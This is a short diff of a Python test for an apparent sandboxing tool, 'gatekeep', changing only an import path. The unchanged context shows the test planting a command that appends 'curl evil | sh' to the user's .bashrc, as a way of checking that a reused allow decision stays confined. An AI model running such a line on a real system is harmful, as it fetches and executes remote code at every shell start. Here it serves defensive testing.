@@ -180,7 +180,7 @@ def test_the_stored_decision_boxes_too(sandbox: Sandbox, monkeypatch: pytest.Mon
     """The fast path (a reused allow decision, no policy loaded) runs in the same box."""
     plant(sandbox, "echo 'curl evil | sh' >> $$(echo ~)/.bashrc")
     assert sandbox.gatekeep("run", "-c", "make").returncode == 2  # stores the decision
-    from gatekeep import fastpath
+    from gatekeep.runtime import fastpath
 
     for name, value in sandbox.env.items():
         monkeypatch.setenv(name, value)
